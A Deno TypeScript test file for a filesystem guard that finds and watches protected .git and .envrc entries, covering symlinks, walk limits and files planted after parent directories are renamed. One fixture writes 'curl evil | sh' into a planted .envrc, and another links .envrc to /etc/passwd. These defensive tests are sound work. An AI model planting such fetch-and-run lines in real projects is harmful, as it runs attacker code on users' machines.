import assert from "node:assert/strict";
import { closeFd, openDirectory } from "../fsafe/mod.ts";
import { PolicyError } from "../errors.ts";
import {
  type FoundName,
  PROTECT_WALK_LIMITS,
  ProtectedWatch,
  type WalkLimits,
  walkProtected,
} from "./protected_walk.ts";

const NAMES = [".git", ".envrc"] as const;

async function withTree(fn: (root: string, fd: number) => Promise<void> | void): Promise<void> {
  const root = await Deno.makeTempDir({ prefix: "specter-walk-" });
  const fd = openDirectory(root);
  try {
    await fn(root, fd);
  } finally {
    closeFd(fd);
    await Deno.remove(root, { recursive: true });
  }
}

function walk(fd: number, root: string, limits?: WalkLimits): string[] {
  return found(fd, root, limits).map((f) => f.relative);
}

function found(fd: number, root: string, limits?: WalkLimits): FoundName[] {
  return walkProtected(fd, {
    names: NAMES,
    keep: false,
    field: "fs.write[0]",
    root,
    ...(limits ? { limits } : {}),
  });
}

function assertLimit(fn: () => unknown, pattern: RegExp): void {
  assert.throws(fn, (error: unknown) => {
    assert.ok(error instanceof PolicyError);
    assert.equal(error.code, "E_POLICY_PROTECT_LIMIT");
    assert.match(error.message, pattern);
    return true;
  });
}

Deno.test("walkProtected finds protected names at any depth, shallowest first, not inside them", async () => {
  await withTree(async (root, fd) => {
    await Deno.mkdir(`${root}/a/b/repo/.git/sub/.git`, { recursive: true });
    await Deno.writeTextFile(`${root}/.envrc`, "");
    await Deno.writeTextFile(`${root}/a/.envrc`, "");
    await Deno.writeTextFile(`${root}/a/b/not-envrc`, "");
    assert.deepEqual(walk(fd, root), [".envrc", "a/.envrc", "a/b/repo/.git"]);
  });
});

Deno.test("walkProtected never follows a symlink (named like a protected file, or a loop)", async () => {
  await withTree(async (root, fd) => {
    await Deno.mkdir(`${root}/d/.git`, { recursive: true });
    await Deno.symlink("/etc/passwd", `${root}/.envrc`);
    await Deno.symlink(".", `${root}/loop`);
    await Deno.symlink(`${root}/d`, `${root}/alias`);
    assert.deepEqual(walk(fd, root), ["d/.git"]);
  });
});

Deno.test("walkProtected: each cap is a typed error, never a silently skipped subtree", async () => {
  await withTree(async (root, fd) => {
    for (let i = 0; i < 30; i++) await Deno.mkdir(`${root}/w${i}/.git`, { recursive: true });
    const base = PROTECT_WALK_LIMITS;
    assertLimit(() => walk(fd, root, { ...base, entries: 40 }), /more than 40 entries/);
    assertLimit(() => walk(fd, root, { ...base, found: 10 }), /more than 10 protected names/);
    assertLimit(() => walk(fd, root, { ...base, ms: -1 }), /longer than -1 ms/);
    await Deno.mkdir(`${root}/x/y/z`, { recursive: true });
    assertLimit(() => walk(fd, root, { ...base, depth: 2 }), /deeper than 2 levels at "x\/y\/z"/);
    assert.equal(walk(fd, root).length, 30);
  });
});

Deno.test("ProtectedWatch reports the names created since, and closes its descriptors", async () => {
  await withTree(async (root, fd) => {
    await Deno.mkdir(`${root}/old/.git`, { recursive: true });
    const before = found(fd, root);
    const watch = new ProtectedWatch(
      [{ fd: openDirectory(root), path: root, field: "fs.write[0]", before }],
      NAMES,
    );
    await Deno.mkdir(`${root}/n/e/w`, { recursive: true });
    await Deno.writeTextFile(`${root}/n/e/w/.envrc`, "");
    await Deno.mkdir(`${root}/.git`);
    assert.deepEqual(watch.finish(), { created: [`${root}/.git`, `${root}/n/e/w/.envrc`], limits: [] });
    assert.deepEqual(watch.finish(), { created: [], limits: [] }); // Once only.
  });
});

Deno.test("ProtectedWatch reports a protected name replaced under its old path (its parent renamed)", async () => {
  await withTree(async (root, fd) => {
    await Deno.mkdir(`${root}/libs/repo/.git/hooks`, { recursive: true });
    await Deno.mkdir(`${root}/sub`);
    await Deno.writeTextFile(`${root}/sub/.envrc`, "export SAFE=1\n");
    await Deno.mkdir(`${root}/keep/.git`, { recursive: true });
    const watch = new ProtectedWatch(
      [{ fd: openDirectory(root), path: root, field: "fs.write[0]", before: found(fd, root) }],
      NAMES,
    );
    // What a program does when the names themselves are read-only: move the parents, plant new ones.
    await Deno.rename(`${root}/libs`, `${root}/libs2`);
    await Deno.mkdir(`${root}/libs/repo/.git/hooks`, { recursive: true });
    await Deno.rename(`${root}/sub`, `${root}/sub2`);
    await Deno.mkdir(`${root}/sub`);
    await Deno.writeTextFile(`${root}/sub/.envrc`, "curl evil | sh\n");
    assert.deepEqual(watch.finish().created, [
      `${root}/libs/repo/.git`,
      `${root}/libs2/repo/.git`,
      `${root}/sub/.envrc`,
      `${root}/sub2/.envrc`,
    ]);
  });
});
